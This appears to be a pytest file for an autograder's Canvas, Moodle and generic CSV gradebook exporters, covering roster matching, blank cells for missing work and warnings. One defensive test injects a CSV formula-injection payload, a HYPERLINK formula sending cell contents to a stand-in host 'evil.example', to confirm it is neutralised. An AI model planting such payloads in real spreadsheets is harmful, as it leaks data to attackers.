"""Gradebooks, read back the way each learning-management system's importer reads them.

Canvas (lib/gradebook_importer.rb): the header starts Student, ID and optionally SIS User
ID, SIS Login ID; student information ends with Section; assignment columns match by
"Title (id)" or exact title, an unknown title makes a new assignment; a row whose first
cell holds "Points Possible" gives maxima; blank means no score. Moodle: an identity
column (e-mail, compared case-sensitively, or ID number), and a feedback column never
without its grade. The class has a student in the roster who submitted nothing and a
submission with no roster entry.
"""

import csv
import io
import subprocess
import sys

import pytest

from grader.outputs.gradebooks import (GradebookError, Roster, canvas, generic,
                                       gradebook_warnings, moodle)
from grader.outputs.report import class_report, lesson_maxima
from grader.results import CheckResult, NotebookResult

LESSONS = list(lesson_maxima())
ROSTER = """folder,name,id,sis_user_id,sis_login_id,email,section
ada,Ada Lovelace,101,S-101,ada@uni.example,Ada.Lovelace@uni.example,A
ben,Ben Ample,102,S-102,ben@uni.example,ben@uni.example,B
cat,Cat Never-Submitted,103,S-103,cat@uni.example,cat@uni.example,A
"""


def a_class():
    ada = [NotebookResult("01_qlearning"), NotebookResult("02_replay_buffer")]
    ada[0].add(CheckResult("test_update", 3.0, 3.0, "passed", "fine"))
    ada[1].add(CheckResult("test_fifo_eviction", 0.0, 2.0, "failed", "evicted the newest"))
    ben = [NotebookResult("01_qlearning")]
    ben[0].add(CheckResult("test_update", 0.0, 3.0, "failed", "not implemented yet"))
    dan = [NotebookResult("03_prioritized_replay")]  # not in the roster
    dan[0].add(CheckResult("test_sumtree_totals", 2.0, 2.0, "passed", "fine"))
    return class_report({"ada": ada, "ben": ben, "dan": dan}, lessons=lesson_maxima())


@pytest.fixture()
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER)
    return Roster.read(path)


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


def test_the_json_lists_every_lesson_for_everyone_and_no_zero_for_missing_work():
    report = a_class().to_data()
    maxima = {s["student"]: s["max_score"] for s in report["submissions"]}
    assert len(set(maxima.values())) == 1  # the same course maximum for every student
    ben = next(s for s in report["submissions"] if s["student"] == "ben")
    assert [n["name"] for n in ben["notebooks"]] == LESSONS
    missing = [n for n in ben["notebooks"] if not n["submitted"]]
    assert missing and all(n["score"] is None and n["max_score"] > 0 for n in missing)


def test_canvas_imports_it_as_it_is(roster):
    rows = rows_of(canvas(a_class(), roster, {"01_qlearning": ("Q-learning", "4821")}))
    header, points = rows[0], rows[1]
    assert header[:4] == ["Student", "ID", "SIS User ID", "SIS Login ID"]
    section = header.index("Section")
    assignments = header[section + 1:]
    assert assignments[0] == "Q-learning (4821)" and assignments[1:] == LESSONS[1:]
    assert "total" not in [title.lower() for title in header]
    assert points[0].startswith("Points Possible")
    assert [float(p) for p in points[section + 1:]] == list(lesson_maxima().values())
    students = {row[1] or row[0]: dict(zip(header, row)) for row in rows[2:]}
    assert students["101"]["Q-learning (4821)"] == "3" and students["101"]["02_replay_buffer"] == "0"
    assert students["101"]["03_prioritized_replay"] == ""  # not submitted: blank, never 0
    assert students["103"]["Student"] == "Cat Never-Submitted"
    assert all(students["103"][title] == "" for title in assignments)
    assert students["dan"]["03_prioritized_replay"] == "2"  # kept, and reported by the CLI


def test_canvas_without_a_roster_still_writes_folder_names():
    rows = rows_of(canvas(a_class()))
    assert [row[0] for row in rows[2:]] == ["ada", "ben", "dan"]


def test_moodle_has_an_identity_and_feedback_only_beside_its_grade(roster):
    rows = rows_of(moodle(a_class(), roster, with_feedback=True))
    header = rows[0]
    assert header[0] == "Email address"
    for index, title in enumerate(header):
        if title.endswith("(feedback)"):
            assert header[index - 1] == title.removesuffix(" (feedback)")
    people = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    assert "Ada.Lovelace@uni.example" in people  # e-mail case kept: Moodle compares exactly
    assert people["cat@uni.example"]["01_qlearning"] == ""
    assert "evicted the newest" in people["Ada.Lovelace@uni.example"]["02_replay_buffer (feedback)"]
    assert "dan" not in " ".join(people)  # no identity for Moodle: left out, and reported


def test_moodle_keeps_everyone_it_can_and_names_everyone_it_cannot(tmp_path):
    # every student has an id, one has no e-mail: Moodle matches by ID number, and nobody
    # is left out but the submission the roster does not know, which is named
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER.replace("ben@uni.example,B", ",B"))
    roster = Roster.read(path)
    rows = rows_of(moodle(a_class(), roster))
    assert rows[0][0] == "ID number"
    assert sorted(row[0] for row in rows[1:]) == ["101", "102", "103"]
    (left_out, count) = gradebook_warnings(a_class(), roster, "moodle")
    assert left_out.startswith("dan is not in the roster: LEFT OUT of the Moodle gradebook")
    assert count.startswith("1 student(s) have no row in the Moodle gradebook")
    for gradebook in ("generic", "canvas"):  # these keep dan's row, and say so
        (line,) = gradebook_warnings(a_class(), roster, gradebook)
        assert line.startswith("dan is not in the roster: its row")


def test_moodle_without_identities_is_refused():
    with pytest.raises(GradebookError, match="email or id"):
        moodle(a_class(), None)


def test_the_generic_gradebook_has_stable_columns_and_blanks(roster):
    rows = rows_of(generic(a_class(), roster))
    assert rows[0] == ["student", "name", "id", "sis_user_id", "sis_login_id", "email",
                       "section", *LESSONS, "total"]
    by_folder = {row[0]: row for row in rows[1:]}
    assert set(by_folder) == {"ada", "ben", "cat", "dan"}
    assert by_folder["cat"][-1] == ""  # submitted nothing
    assert by_folder["ben"][7] == "0"  # a real zero


def test_the_cli_reports_a_submission_missing_from_the_roster(tmp_path):
    from submission_factory import REPOSITORY, write_submission

    write_submission(tmp_path / "class", "06_capstone", student="zed")
    write_submission(tmp_path / "class", "06_capstone", student="ada")
    (tmp_path / "roster.csv").write_text(ROSTER)
    completed = subprocess.run(
        [sys.executable, "-m", "grader", "grade", str(tmp_path / "class"), "--quiet",
         "--only", "test_confidence_interval", "--roster", str(tmp_path / "roster.csv"),
         "--format", "canvas", "--csv", str(tmp_path / "canvas.csv")],
        cwd=REPOSITORY, capture_output=True, text=True, timeout=300)
    assert completed.returncode == 0, completed.stderr
    assert "zed is not in the roster" in completed.stderr
    rows = rows_of((tmp_path / "canvas.csv").read_text())
    assert {row[0] for row in rows[2:]} == {"Ada Lovelace", "Ben Ample", "Cat Never-Submitted",
                                             "zed"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_a_student_controls_runs_as_a_formula_in_any_gradebook(tmp_path, start):
    # a folder name and a check's feedback (the student's exception message) that begin
    # like a formula reach the spreadsheet as text: a leading ' in every format
    hostile = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    result = NotebookResult("01_qlearning")
    result.add(CheckResult("test_update", 0.0, 3.0, "failed", hostile))
    report = class_report({hostile: [result]}, lessons=lesson_maxima())
    path = tmp_path / "roster.csv"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([["folder", "name", "email"],
                                      [hostile, hostile, "x@uni.example"]])
    roster = Roster.read(path)
    for text in (generic(report), generic(report, roster), canvas(report),
                 canvas(report, roster), moodle(report, roster, with_feedback=True)):
        cells = [cell for row in rows_of(text) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t",
                                                                "\r"))], text
        if start not in "\t\r":  # control characters are replaced or stripped anyway
            assert any(cell.startswith("'" + start) for cell in cells), text


def test_a_notebook_that_could_not_be_graded_is_named_with_its_reason():
    # its gradebook cell is blank; the instructor is told why, in one line
    unreadable = NotebookResult.not_submitted("02_replay_buffer", 14.0, [
        "02_replay_buffer.ipynb is a folder, not a notebook file."])
    report = class_report({"ada": [NotebookResult("01_qlearning"), unreadable]},
                          lessons=lesson_maxima())
    for gradebook in ("generic", "canvas"):
        (line,) = gradebook_warnings(report, None, gradebook)
        assert line == ("ada's 02_replay_buffer was handed in but could not be graded, so "
                        "its cell is blank: 02_replay_buffer.ipynb is a folder, not a "
                        "notebook file.")
    assert rows_of(generic(report))[1][2] == ""  # blank, not a zero


@pytest.mark.parametrize("row, says", [
    ("ada,Ada Again,104,S-104,ada2@uni.example,ada2@uni.example,B", "repeats the folder 'ada'"),
    ("dan,Dan,105,S-105,dan@uni.example,ADA.lovelace@uni.example,B",
     "repeats the email 'ADA.lovelace@uni.example' of line 2"),
    ("dan,Dan,101,S-105,dan@uni.example,dan@uni.example,B", "repeats the id '101'"),
])
def test_a_roster_that_names_one_person_twice_is_refused_in_one_line(tmp_path, row, says):
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER + row + "\n")
    with pytest.raises(GradebookError, match=says) as refused:
        Roster.read(path)
    assert "line 5" in str(refused.value) and "\n" not in str(refused.value)


def test_two_students_may_share_a_name(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER + "dan,Ada Lovelace,104,S-104,dan@uni.example,dan@uni.example,B\n")
    assert len(Roster.read(path).people) == 4


def test_a_canvas_downloads_students_match_the_roster_by_user_id(tmp_path):
    """A Canvas download's student (doejane_101) matches a roster row by its Canvas user
    id, folder or not; its Canvas row carries that id even with no roster at all."""
    jane, bob = NotebookResult("01_qlearning"), NotebookResult("01_qlearning")
    jane.add(CheckResult("test_update", 3.0, 3.0, "passed", "fine"))
    bob.add(CheckResult("test_update", 1.0, 3.0, "failed", "off by one"))
    report = class_report({"doejane_101": [jane], "smithbob_102": [bob]},
                          lessons=lesson_maxima(),
                          identities={"doejane_101": {"id": "101"}, "smithbob_102": {"id": "102"}})
    path = tmp_path / "roster.csv"
    path.write_text("id,name,sis_user_id\n101,Jane Doe,S-1\n103,Cat Absent,S-3\n")
    roster = Roster.read(path)
    rows = {row[0]: row for row in rows_of(canvas(report, roster))[2:]}
    assert rows["Jane Doe"][1:3] == ["101", "S-1"]
    assert rows["smithbob_102"][1] == "102"  # not in the roster: its id from the file
    assert rows["Cat Absent"][1:3] == ["103", "S-3"]  # in the roster, nothing handed in
    assert rows_of(canvas(report))[2][1] in ("101", "102")
    assert gradebook_warnings(report, roster, "canvas") == []
    assert report.to_data()["submissions"][0]["identity"] == {"id": "101"}
    (tmp_path / "no_key.csv").write_text("id,name\n,Jane Doe\n")
    with pytest.raises(GradebookError, match="line 2 has no folder and no id"):
        Roster.read(tmp_path / "no_key.csv")


def test_a_gradescope_students_roster_row_is_found_by_e_mail_in_any_case(tmp_path):
    result = NotebookResult("01_qlearning")
    result.add(CheckResult("test_update", 3.0, 3.0, "passed", "fine"))
    report = class_report({"jane.doe@uni.example": [result]}, lessons=lesson_maxima(),
                          identities={"jane.doe@uni.example": {"email": "Jane.Doe@uni.example",
                                                               "sis_user_id": "5551"}})
    path = tmp_path / "roster.csv"
    path.write_text("folder,name,email,sis_user_id\njd,Jane Doe,JANE.DOE@uni.example,5551\n")
    rows = rows_of(generic(report, Roster.read(path)))
    assert rows[1][:2] == ["jane.doe@uni.example", "Jane Doe"]
    assert gradebook_warnings(report, Roster.read(path), "generic") == []
